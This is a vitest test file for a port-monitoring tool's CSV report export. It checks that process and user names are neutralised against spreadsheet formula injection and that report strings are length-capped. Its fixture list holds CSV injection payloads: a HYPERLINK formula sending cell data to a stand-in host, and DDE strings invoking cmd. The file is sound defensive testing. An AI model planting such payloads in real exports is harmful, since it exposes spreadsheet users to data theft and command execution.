import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { Report, REPORT_SCHEMA_VERSION, MAX_REPORT_STRING } from '../../../shared/report'
import { reportToCsv } from './csv'

const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
]

const report = (names: string[]): Report => ({
  schema: 'portwarden-report',
  schemaVersion: REPORT_SCHEMA_VERSION,
  generatedAt: new Date().toISOString(),
  generator: 'Portwarden test',
  host: {
    hostname: 'host',
    platform: 'linux',
    osRelease: '6.18',
    osVersion: '#1',
    backend: 'linux-sockets',
    privileged: false,
  },
  runtime: [],
  persistent: [],
  reservedRanges: [],
  dynamicRanges: [],
  sockets: {
    source: 'netlink',
    ownersComplete: true,
    entries: names.map((name, i) => ({
      protocol: 'tcp',
      family: 'ipv4',
      state: 'LISTEN',
      localAddress: '0.0.0.0',
      localPort: 5000 + i,
      remoteAddress: '0.0.0.0',
      remotePort: 0,
      inode: 100 + i,
      uid: 1000,
      owners: [{ pid: 4242 + i, name, user: name }],
    })),
  },
  watched: [],
  conflicts: [],
})

describe('CSV report', () => {
  it('neutralises process and user names a spreadsheet would run as formulas', () => {
    const rows = parse(reportToCsv(report(hostile)), { columns: true }) as Record<string, string>[]
    const sockets = rows.filter((r) => r['section'] === 'socket')
    expect(sockets.map((r) => r['process'])).toEqual(hostile.map((h) => `'${h}`))
    // (user names are trimmed first, so a leading tab or CR goes before the quote does)
    for (const r of sockets) expect(r['user']).toMatch(/^'[=+\-@]/)
    for (const r of rows)
      for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('the report schema caps every string, also inside sockets and verdicts', () => {
    expect(Report.safeParse(report(['postgres'])).success).toBe(true)
    const long = Report.safeParse(report(['x'.repeat(MAX_REPORT_STRING + 1)]))
    expect(long.success).toBe(false)
    expect(long.error?.issues[0]?.path).toEqual(['sockets', 'entries', 0, 'owners', 0, 'name'])
    const host = Report.safeParse({
      ...report([]),
      host: { ...report([]).host, hostname: 'h'.repeat(300) },
    })
    expect(host.success).toBe(false)
  })
})
